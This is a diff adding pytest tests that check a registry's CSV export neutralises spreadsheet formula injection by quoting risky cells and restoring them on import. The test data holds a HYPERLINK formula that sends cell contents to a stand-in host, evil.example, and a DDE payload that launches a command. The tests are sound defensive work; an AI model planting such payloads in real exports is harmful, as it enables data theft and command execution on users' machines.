@@ -1,11 +1,14 @@
 from __future__ import annotations
 
+import csv
 import io
 from pathlib import Path
 
+import pytest
 from iotgw.registry import make_engine, seed_admin_units, session_factory, upgrade
 from iotgw.registry.csv_export import export_csv
 from iotgw.registry.csv_import import import_csv
+from iotgw.registry.spreadsheet_cells import restored_cell, safe_cell
 from sqlalchemy.orm import Session
 
 FILES = {
@@ -51,3 +54,37 @@ def test_export_reimports_to_the_same_registry(session: Session, tmp_path: Path)
         for kind, text in first.items():
             import_csv(fresh, kind, io.StringIO(text), source=kind)  # type: ignore[arg-type]
         assert _export_all(fresh) == first
+
+
+HOSTILE_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"open")'
+
+
+@pytest.mark.parametrize(("value", "written"), [
+    (HOSTILE_NAME, "'" + HOSTILE_NAME),
+    ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
+    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("-inf", "'-inf"),
+    ("'=1", "''=1"),  # already quoted by hand: one more quote, so the original comes back
+    ("HTX Tân Hiệp", "HTX Tân Hiệp"), ("a=b", "a=b"), ("'quoted'", "'quoted'"), ("", ""),
+    ("-3.5", "-3.5"), ("+7", "+7"), ("-1e3", "-1e3"),  # numbers stay numbers
+    (-3.5, -3.5), (12, 12), (None, None),
+])
+def test_a_cell_that_starts_a_formula_is_quoted_and_restored(value: object, written: object) -> None:
+    assert safe_cell(value) == written
+    if isinstance(value, str):
+        assert restored_cell(safe_cell(value)) == value
+
+
+def test_a_hostile_organisation_name_is_exported_as_text(session: Session) -> None:
+    seed_admin_units(session)
+    rows = [("evil-1", HOSTILE_NAME), ("evil-2", "@SUM(1+1)*cmd|' /C calc'!A0"), ("ok-1", "Trại -1")]
+    given = io.StringIO()
+    writer = csv.writer(given)
+    writer.writerow(["id", "name", "type", "sector", "ward_code", "since"])
+    writer.writerows([org, name, "farm", "agriculture", 70, "2025-03-01"] for org, name in rows)
+    import_csv(session, "organisations", io.StringIO(given.getvalue()), source="orgs.csv")
+    out = io.StringIO()
+    export_csv(session, "organisations", out)
+    names = {row["id"]: row["name"] for row in csv.DictReader(io.StringIO(out.getvalue()))}
+    assert names == {"evil-1": "'" + HOSTILE_NAME, "evil-2": "'@SUM(1+1)*cmd|' /C calc'!A0",
+                     "ok-1": "Trại -1"}
+    assert {org: restored_cell(name) for org, name in names.items()} == dict(rows)
